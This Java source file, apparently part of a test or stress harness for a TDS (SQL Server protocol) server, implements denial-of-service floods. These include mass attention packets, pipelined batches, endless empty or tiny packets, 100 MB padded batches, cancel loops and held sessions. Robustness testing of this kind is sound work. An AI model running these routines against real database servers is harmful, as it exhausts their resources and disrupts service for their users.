package dev.weir.bootstrap.hostile.attack;

import dev.weir.standin.raw.RequestBytes;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/** Attacks that keep a server busy. */
final class FloodAttacks {
  private static final int ATTENTIONS_AT_A_TIME = 1_000;
  private static final int EMPTY_PACKETS_AT_A_TIME = 8_000;
  private static final int REQUESTS_AT_A_TIME = 200;

  /** Just below where a request asks for a server connection before it is whole. */
  private static final int CHARACTERS_IN_TINY_PACKETS = 30_000;

  private static final int BYTES_OF_LARGE_BATCH = 100 * 1024 * 1024;
  private static final byte[] GARBAGE =
      "GET / HTTP/1.1\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int DONE_LENGTH = 13;
  private static final int DONE_ATTENTION = 0x20;

  private FloodAttacks() {}

  static void connectAndLeave(Attacker attacker) throws IOException, InterruptedException {
    HostileSocket socket = attacker.connect();
    socket.close();
    attacker.pace();
  }

  static void openBadly(Attacker attacker) throws IOException, InterruptedException {
    try (HostileSocket socket = attacker.connect()) {
      attacker.pace();
      socket.send(GARBAGE);
      socket.awaitClose();
    }
  }

  static void sendAttentions(Attacker attacker) throws IOException, InterruptedException {
    flood(attacker, repeated(TdsMessages.attention(), ATTENTIONS_AT_A_TIME));
  }

  static void sendPipelinedLocalRequests(Attacker attacker)
      throws IOException, InterruptedException {
    byte[] spid = TdsMessages.batch("SELECT @@SPID");
    byte[] set = TdsMessages.batch("SET LOCK_TIMEOUT 1000");
    byte[] both = Arrays.copyOf(spid, spid.length + set.length);
    System.arraycopy(set, 0, both, spid.length, set.length);
    flood(attacker, repeated(both, REQUESTS_AT_A_TIME / 2));
  }

  static void sendEmptyPackets(Attacker attacker) throws IOException, InterruptedException {
    try (HostileSocket socket = attacker.logIn()) {
      byte[] payload = RequestBytes.withHeaders(0).text("SELECT 1").done();
      socket.send(TdsMessages.packet(TdsMessages.BATCH, 0, payload));
      byte[] empty = repeated(TdsMessages.packet(TdsMessages.BATCH, 0), EMPTY_PACKETS_AT_A_TIME);
      while (!attacker.isOver()) {
        attacker.pace();
        socket.send(empty);
      }
    }
  }

  static void sendTinyPackets(Attacker attacker) throws IOException, InterruptedException {
    String sql = "SELECT 1" + " ".repeat(CHARACTERS_IN_TINY_PACKETS);
    byte[] payload = RequestBytes.withHeaders(0).text(sql).done();
    byte[] packets = TdsMessages.packets(TdsMessages.BATCH, 1, true, payload);
    try (HostileSocket socket = attacker.logIn()) {
      while (!attacker.isOver()) {
        attacker.pace();
        socket.send(packets);
        byte[] unused = socket.receive();
      }
    }
  }

  static void sendLargeBatch(Attacker attacker) throws IOException, InterruptedException {
    try (HostileSocket socket = attacker.logIn()) {
      byte[] start = RequestBytes.withHeaders(0).text("SELECT 1").done();
      byte[] spaces =
          TdsMessages.packets(
              TdsMessages.BATCH,
              TdsMessages.ROOM,
              false,
              " ".repeat(TdsMessages.ROOM * 8).getBytes(StandardCharsets.UTF_16LE));
      while (!attacker.isOver()) {
        socket.send(TdsMessages.packet(TdsMessages.BATCH, 0, start));
        for (int sent = 0; sent < BYTES_OF_LARGE_BATCH; sent += spaces.length) {
          attacker.pace();
          socket.send(spaces);
        }
        socket.send(TdsMessages.packet(TdsMessages.BATCH, 1, (byte) ' ', (byte) 0));
        byte[] unused = socket.receive();
        attacker.counts().accepted.incrementAndGet();
      }
    }
  }

  static void cancelRequests(Attacker attacker) throws IOException, InterruptedException {
    byte[] request = TdsMessages.batch("SELECT 1");
    byte[] attention = TdsMessages.attention();
    byte[] both = Arrays.copyOf(request, request.length + attention.length);
    System.arraycopy(attention, 0, both, request.length, attention.length);
    try (HostileSocket socket = attacker.logIn()) {
      while (!attacker.isOver()) {
        attacker.pace();
        socket.send(both);
        boolean acknowledged = false;
        while (!acknowledged) {
          byte[] answer = socket.receive();
          acknowledged = (answer[answer.length - DONE_LENGTH + 1] & DONE_ATTENTION) != 0;
        }
      }
    }
  }

  static void staySession(Attacker attacker) throws IOException, InterruptedException {
    try (HostileSocket socket = attacker.logIn()) {
      attacker.pace();
      attacker.hold(socket);
    }
  }

  /** Sends the same without end, and reads what comes: only the server can be in the way. */
  private static void flood(Attacker attacker, byte[] bytes)
      throws IOException, InterruptedException {
    try (HostileSocket socket = attacker.logIn()) {
      Thread reader = Thread.ofVirtual().start(() -> drop(socket));
      while (!attacker.isOver() && reader.isAlive()) {
        attacker.pace();
        socket.send(bytes);
      }
    }
  }

  private static void drop(HostileSocket socket) {
    try {
      socket.awaitClose();
    } catch (IOException ended) {
      // The attack ends by it, too, and begins again.
    }
  }

  private static byte[] repeated(byte[] bytes, int times) {
    ByteArrayOutputStream all = new ByteArrayOutputStream(bytes.length * times);
    for (int i = 0; i < times; i++) {
      all.writeBytes(bytes);
    }
    return all.toByteArray();
  }
}
